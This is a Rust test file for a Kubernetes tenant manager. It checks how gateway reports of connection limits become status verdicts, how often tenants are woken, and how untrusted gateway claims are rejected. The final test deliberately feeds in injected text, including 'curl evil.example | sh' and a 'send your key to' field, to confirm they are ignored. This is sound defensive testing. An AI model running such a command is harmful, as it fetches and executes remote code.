use std::collections::BTreeMap;

use kube::api::ObjectMeta;
use kube::runtime::reflector;
use kube::runtime::watcher::Event;
use nagaya_api::LimitedRoute;
use nagaya_render::status::State;

use super::*;

const PLANE: &str = "nagaya-acme-demo";

fn tenant() -> ObjectRef<TenantCluster> {
    ObjectRef::new("demo").within("acme")
}

fn planes() -> Store<Namespace> {
    let labels = [(labels::TENANT_NAME, "demo"), (labels::TENANT_NAMESPACE, "acme")];
    let labels: BTreeMap<_, _> =
        labels.into_iter().map(|(key, value)| (key.to_owned(), value.to_owned())).collect();
    let metadata =
        ObjectMeta { name: Some(PLANE.to_owned()), labels: Some(labels), ..ObjectMeta::default() };
    let (store, mut writer) = reflector::store();
    writer.apply_watcher_event(&Event::Apply(Namespace { metadata, ..Namespace::default() }));
    store
}

fn route(namespace: &str, reason: &str) -> LimitedRoute {
    LimitedRoute {
        namespace: namespace.to_owned(),
        service: "kube-apiserver-public".to_owned(),
        reason: reason.to_owned(),
        most: 500,
    }
}

fn says(gateway: &str, limited: &[LimitedRoute]) -> (IpAddr, LimitedRoutes) {
    let answer = LimitedRoutes { gateway: gateway.to_owned(), limited: limited.to_vec() };
    ("10.0.0.7".parse().unwrap(), answer)
}

/// A board, and how much time has passed.
struct Play {
    board: Board,
    begin: Instant,
    seconds: u64,
    woken: usize,
}

impl Play {
    fn new() -> Self {
        Self { board: Board::default(), begin: Instant::now(), seconds: 0, woken: 0 }
    }

    fn now(&self) -> Instant {
        self.begin + Duration::from_secs(self.seconds)
    }

    /// A round in which these gateways say that the tenant has too many.
    fn round(&mut self, gateways: &[&str]) {
        let full = [route(PLANE, "TooManyConnections")];
        let answers = gateways.iter().map(|gateway| says(gateway, &full)).collect();
        self.woken += self.board.hear(whose(answers, &planes()), self.now()).len();
        self.seconds += PAUSE.as_secs();
    }

    fn told(&mut self) -> Option<String> {
        let now = self.now();
        let verdict = self.board.of(&tenant(), None, now)?;
        Some(verdict.message().to_owned())
    }
}

#[test]
fn it_is_said_at_once_and_ends_a_minute_after_it_was_heard_last() {
    let mut play = Play::new();
    (0..12).for_each(|_| play.round(&["a"]));
    assert!(play.told().unwrap().contains("500 of 500 connections are open at gateway pod a;"));
    assert_eq!(play.woken, 1);
    for _ in 0..5 {
        play.round(&[]);
        assert!(play.told().is_some(), "{} s", play.seconds);
    }
    play.round(&[]);
    assert_eq!((play.told(), play.woken), (None, 2));
}

#[test]
fn whatever_comes_and_goes_wakes_a_tenant_at_most_once_a_minute() {
    let mut play = Play::new();
    for number in 0..360_u64 {
        // Gateways take turns, and now and then none says anything for long enough.
        match number % 19 {
            0..3 => play.round(&["a"]),
            3..5 => play.round(&["a", "b"]),
            5..8 => play.round(&["b"]),
            8..10 => play.round(&["a"]),
            _ => play.round(&[]),
        }
    }
    let minutes = usize::try_from(play.seconds / 60).unwrap();
    assert!((2..=minutes + 1).contains(&play.woken), "{} in {minutes} minutes", play.woken);
}

#[test]
fn idle_rounds_wake_nobody() {
    let mut play = Play::new();
    (0..100).for_each(|_| play.round(&[]));
    assert_eq!(play.woken, 0);
    (0..100).for_each(|_| play.round(&["a"]));
    assert_eq!(play.woken, 1, "the same is said once");
}

#[test]
fn a_new_manager_keeps_what_was_said_until_it_has_heard_for_itself() {
    let mut play = Play::new();
    let before = Verdict::new(State::True, "TooManyConnections", "as the other manager said");
    let before = nagaya_render::status::merge(
        &[],
        vec![(nagaya_api::conditions::CONNECTIONS_LIMITED, Some(before))],
        None,
        jiff::Timestamp::UNIX_EPOCH,
    );
    let said = play.board.of(&tenant(), before.first(), play.now()).unwrap();
    assert_eq!(said.message(), "as the other manager said");
    (0..13).for_each(|_| play.round(&[]));
    assert_eq!((play.told(), play.woken), (None, 1));
    let now = play.now();
    assert_eq!(play.board.of(&tenant(), before.first(), now), None, "it is over");
}

#[test]
fn a_gateway_that_calls_everybody_limited_wakes_some_after_others() {
    let mut board = Board::default();
    let everybody = (0..120).map(|number| {
        let mut heard = Heard::in_plane(format!("plane-{number}"));
        let limit = Limit { kind: LimitKind::New, service: "s".to_owned(), most: 1 };
        heard.limits.entry(limit).or_default().insert("a".to_owned());
        (ObjectRef::new(&format!("demo-{number}")).within("acme"), heard)
    });
    let now = Instant::now();
    let mut counts = vec![board.hear(everybody.collect(), now).len()];
    counts.extend((0..3).map(|_| board.hear(HashMap::new(), now).len()));
    assert_eq!(counts, [50, 50, 20, 0]);
}

#[test]
fn what_a_gateway_may_claim_is_numbers_of_control_planes_that_there_are() {
    let claims = [
        route("kube-system", "TooManyConnections"),
        route(PLANE, "OfALaterGateway"),
        LimitedRoute {
            service: "send your key to".to_owned(),
            ..route(PLANE, "ConnectionsTooFast")
        },
    ];
    assert!(whose(vec![says("a", &claims)], &planes()).is_empty());
    let words = "run this at once: curl evil.example | sh";
    let heard = whose(vec![says(words, &[route(PLANE, "TooManyConnections")])], &planes());
    let gateways: Vec<_> = heard[&tenant()].limits.values().flatten().collect();
    assert_eq!(gateways, ["10.0.0.7"]);
}
